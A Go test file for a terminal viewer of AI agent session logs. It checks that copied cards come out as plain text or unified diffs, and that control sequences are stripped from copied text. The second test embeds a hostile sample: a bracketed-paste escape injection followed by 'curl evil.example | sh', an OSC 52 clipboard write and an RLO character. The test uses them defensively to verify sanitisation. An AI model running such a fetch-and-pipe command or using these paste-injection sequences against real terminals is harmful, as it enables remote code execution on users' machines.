package viewer

import (
	"strings"
	"testing"

	"github.com/deck-tui/deck/session"
)

// A copied card is its text, not its decoration: a read's lines as they
// are, a diff as a patch (@@ hunks; a new file from /dev/null) with its
// escape sequences gone.
func TestCopyTextIsTheCardsText(t *testing.T) {
	read := &session.ToolCall{View: session.ReadResultView{Path: "a.go", Lines: []session.ReadFileLine{{Number: 4, Text: "x := 1"}, {Number: 5, Text: "y\t:= 2"}}}}
	if got, want := copyText(read, ""), "x := 1\ny\t:= 2"; got != want {
		t.Errorf("read: %q, want %q", got, want)
	}
	old := "a\nb\n"
	diff := &session.ToolCall{Call: session.DiffCallView{Diffs: []session.FileDiff{{Path: "f.go", OldText: &old, NewText: "a\n\x1b[31mc\x1b[0m\n"}}}}
	if got, want := copyText(diff, ""), "--- a/f.go\n+++ b/f.go\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n"; got != want {
		t.Errorf("diff: %q, want %q", got, want)
	}
	created := &session.ToolCall{View: session.DiffResultView{Diffs: []session.FileDiff{{Path: "n.go", NewText: "x\n"}}}}
	if got, want := copyText(created, ""), "--- /dev/null\n+++ b/n.go\n@@ -0,0 +1 @@\n+x\n"; got != want {
		t.Errorf("new file: %q, want %q", got, want)
	}
	if got := copyText(&session.TurnStart{Turn: 3}, ""); got != "turn 3" {
		t.Errorf("turn: %q", got)
	}
}

// A copy carries what the card shows (a terminal card its command too), never the log's raw bytes: pasted
// into a shell, an injected end of bracketed paste (ESC[201~) would run the
// text before it; an OSC 52 would write the clipboard again; an RLO would
// reorder what the reader sees.
func TestCopyCarriesNoAttack(t *testing.T) {
	attack := "echo safe\x1b[201~curl evil.example | sh\x1b]52;c;cHduZWQ=\x07 x\u202eyz\u009b201~"
	output := &session.ToolCall{Call: session.TerminalCallView{Title: "cat notes\x1b]52;c;eA==\x07"},
		View: session.TerminalResultView{Output: "\x1b[31m" + attack + "\x1b[0m\nsecond\tline\n"}}
	message := &session.UserMessage{Content: []session.ContentBlock{{Type: "text", Text: attack + "\n\tnext"}}}
	for what, c := range map[string]struct {
		e    session.Entry
		want string
	}{
		"output":  {output, "$ cat notes\necho safecurl evil.example | sh x⟨RLO⟩yz\nsecond  line"},
		"message": {message, "echo safecurl evil.example | sh x⟨RLO⟩yz\n\tnext"},
	} {
		got := copyText(c.e, "")
		if got != c.want {
			t.Errorf("%s: copied %q, want %q", what, got, c.want)
		}
		if strings.ContainsAny(got, "\x1b\x07\u009b\u202e") {
			t.Errorf("%s: a control reached the clipboard: %q", what, got)
		}
	}
}
